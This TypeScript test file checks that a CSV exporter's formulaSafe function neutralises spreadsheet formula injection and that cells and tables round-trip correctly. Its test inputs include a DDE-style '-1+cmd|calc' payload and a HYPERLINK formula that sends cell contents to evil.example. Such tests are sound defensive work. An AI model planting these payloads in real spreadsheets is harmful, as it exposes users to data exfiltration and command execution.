import { parse } from 'csv-parse/sync';
import { csv, CSV_COLUMNS, formulaSafe } from './csv.js';

const read = (text: string): Record<string, string>[] =>
  parse<Record<string, string>>(text, { columns: true, record_delimiter: '\r\n' });

describe('a cell', () => {
  it.each([
    '=1+2',
    '+1',
    '-1+cmd|calc',
    '@SUM(A1)',
    '\tx',
    '\rx',
    '\nx',
    ' =1',
    '\u00a0=1',
    '\u200b=1',
    '\ufeff=1',
    '  \t @x',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    ' ＝1',
    '=HYPERLINK("http://evil.example/?"&A1)',
    '-',
  ])('that begins like the formula %j is text', (text) => {
    expect(formulaSafe(text)).toBe(`'${text}`);
    const [row] = read(csv([{ number: 1, title: text }], true));
    expect(row!['title']).toBe(`'${text}`);
  });

  it.each(['', 'x', 'a=b', 'C++', 'mail@example.com', '1-2', "'=1", '"=1', 'Ümlaut', '7 − 2'])(
    'such as %j stays as it is',
    (text) => {
      expect(formulaSafe(text)).toBe(text);
    },
  );

  it('comes back as it was, whatever is in it', () => {
    for (const title of ['a,b', 'say "so"', 'two\r\nlines', 'semi;colon', '日本語 🐞', "it's", ' padded ']) {
      expect(read(csv([{ title }], true))[0]!['title']).toBe(title);
    }
  });
});

describe('a table', () => {
  it('begins with its header, also when it has nothing else', () => {
    expect(csv([], true)).toBe(`${CSV_COLUMNS.join(',')}\r\n`);
    expect(csv([{ number: 7 }], false)).toBe(`7${','.repeat(CSV_COLUMNS.length - 1)}\r\n`);
  });

  it('has a line for each bug, in which nothing is nothing and a negative number is one', () => {
    const text = csv([{ number: 7, title: 'x', private: false, due: null, comments: -1 }], true);
    expect(read(text)).toHaveLength(1);
    expect(read(text)[0]).toMatchObject({ number: '7', private: 'false', due: '', comments: '-1' });
  });
});
